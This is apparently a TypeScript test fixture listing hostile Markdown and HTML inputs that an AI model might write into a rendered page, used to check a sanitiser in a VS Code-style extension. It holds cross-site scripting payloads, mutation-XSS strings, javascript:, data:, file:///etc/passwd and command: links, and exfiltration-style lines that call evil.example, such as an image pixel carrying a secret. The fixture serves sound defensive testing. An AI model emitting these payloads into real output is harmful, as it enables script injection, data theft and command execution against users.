/** What a model could write to get markup, a script or an address of another kind into the page. */
export const hostileMarkdown: readonly string[] = [
	...handlers(),
	...addresses(),
	...markup(),
	...mutations(),
	...markdown(),
];

/** Elements that run a script by themselves or when they are touched. */
function handlers(): readonly string[] {
	const tags = [
		'img src=x',
		'svg',
		'video src=x',
		'details open',
		'input autofocus',
		'iframe',
		'math',
		'a href=x',
		'p',
		'style',
	];
	const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationstart'];
	return tags.flatMap((tag, index) =>
		[0, 1, 3].map(step => `<${tag} ${events[(index + step) % events.length]!}=alert(1)>`),
	);
}

/** Addresses that no link may have, in every form of a link. */
function addresses(): readonly string[] {
	const schemes = [
		'javascript:alert(1)',
		'JaVaScRiPt:alert(1)',
		'java&#x73;cript:alert(1)',
		'java&#9;script:alert(1)',
		'\u0001javascript:alert(1)',
		'javascript&colon;alert(1)',
		'%6aavascript:alert(1)',
		'vbscript:msgbox(1)',
		'data:text/html;base64,PHNjcmlwdD4=',
		'data:image/svg+xml;base64,PHN2Zz4=',
		'file:///etc/passwd',
		'command:workbench.action.terminal.new',
		'command:inkling.chat.delete?%5B%5D',
		'vscode://file/etc/passwd',
		'vscode-resource:/etc/passwd',
		'vscode-webview://a/index.html',
		'blob:https://evil.example/1',
		'filesystem:https://evil.example/a',
		'ftp://evil.example/a',
		'mailto:a@evil.example',
		'tel:123',
		'ws://evil.example',
		'view-source:https://evil.example',
		'about:blank',
		'//evil.example/a',
		'\\\\evil.example\\a',
		'https:evil.example',
		'http:/evil.example',
		'inkling-place:"onmouseover=alert(1)#L1',
		'inkling-place:javascript:alert(1)',
	];
	const forms = [
		(to: string) => `[x](${to})`,
		(to: string) => `<${to}>`,
		(to: string) => `![x](${to})`,
		(to: string) => `[x]: ${to}\n\n[x]`,
	];
	return schemes.flatMap(scheme => forms.map(form => form(scheme)));
}

function markup(): readonly string[] {
	return [
		'<script>alert(1)</script>',
		'<ScRiPt src=https://evil.example/x.js></sCrIpT>',
		'<script\n>alert(1)</script\n>',
		'<svg><script>alert(1)</script></svg>',
		'<svg/onload=alert(1)>',
		'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
		'<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
		'<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#a">',
		'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		'<iframe src="javascript:alert(1)"></iframe>',
		'<object data="https://evil.example/a"></object>',
		'<embed src="https://evil.example/a">',
		'<form action="https://evil.example"><input name=a><button>Go</button></form>',
		'<button formaction="javascript:alert(1)">x</button>',
		'<style>@import "https://evil.example/x.css";</style>',
		'<link rel=stylesheet href=https://evil.example/x.css>',
		'<base href="https://evil.example/">',
		'<meta http-equiv="refresh" content="0;url=https://evil.example">',
		'<a href="command:workbench.action.terminal.new">x</a>',
		'<a href=https://evil.example ping=https://evil.example>x</a>',
		'<video poster=https://evil.example/a><source src=https://evil.example/b></video>',
		'<table background=https://evil.example/a><td background=https://evil.example/b>x</table>',
		'<p style="background:url(https://evil.example/a)">x</p>',
		'<div id=root data-labels={}>x</div>',
		'<template><img src=x onerror=alert(1)></template>',
		'<dialog open><img src=x onerror=alert(1)></dialog>',
		'<custom-element onclick=alert(1)>x</custom-element>',
		'<!--><img src=x onerror=alert(1)>-->',
		'<![CDATA[<img src=x onerror=alert(1)>]]>',
		'<?xml version="1.0"?><img src=x onerror=alert(1)>',
		'<img src=x\u0000onerror=alert(1)>',
		'<img\u000csrc=x\u000conerror=alert(1)>',
	];
}

/** Texts that a parser reads otherwise the second time. */
function mutations(): readonly string[] {
	return [
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
		'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
		'<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
		'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
		'<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
		'<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
		'<p id="</p><img src=x onerror=alert(1)>">',
		'&lt;script&gt;alert(1)&lt;/script&gt;',
		'&amp;lt;img src=x onerror=alert(1)&amp;gt;',
		'\\<img src=x onerror=alert(1)\\>',
	];
}

/** Breaking out of what Markdown itself makes. */
function markdown(): readonly string[] {
	return [
		'[x]: https://evil.example "a\\" onmouseover=alert(1)"\n\n[x]',
		'[x](https://evil.example/"onmouseover="alert(1))',
		"[x](https://evil.example/'onmouseover='alert(1))",
		'[x](https://evil.example/ "title\\" onclick=alert(1) a=\\"")',
		'[<img src=x onerror=alert(1)>](https://evil.example)',
		'![<img src=x onerror=alert(1)>](https://evil.example)',
		'![x](https://evil.example/pixel.png?secret)',
		'![x](https://evil.example "onload=alert(1)")',
		'<https://evil.example/?"><script>alert(1)</script>>',
		'https://evil.example/"><img src=x onerror=alert(1)>',
		'```html\n<script>alert(1)</script>\n```',
		'```"><img src=x onerror=alert(1)>\ncode\n```',
		'``` " onmouseover=alert(1) x="\ncode\n```',
		'~~~<script>\n</code></pre><img src=x onerror=alert(1)>\n~~~',
		'| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
		'| <script>alert(1)</script> |\n|-|\n| x |',
		'# <img src=x onerror=alert(1)>',
		'> <iframe src=https://evil.example>',
		'- [ ] <details open ontoggle=alert(1)>',
		'1000000000000. <img src=x onerror=alert(1)>',
		'`<img src=x onerror=alert(1)>`',
		'    <img src=x onerror=alert(1)>\n',
		'**<b onmouseover=alert(1)>x**</b>',
		'~~<u onclick=alert(1)>x</u>~~',
		'[x][<img src=x onerror=alert(1)>]\n\n[<img src=x onerror=alert(1)>]: https://evil.example',
		'x\n<img src=x onerror=alert(1)>\n===',
		'&#60;img src=x onerror=alert(1)&#62;',
		'[x](inkling-place:/etc/passwd#L1)',
		'[x](inkling-place:a"><img src=x onerror=alert(1)>#L1)',
		'[x](https://a@evil.example\\@good.example/)',
	];
}
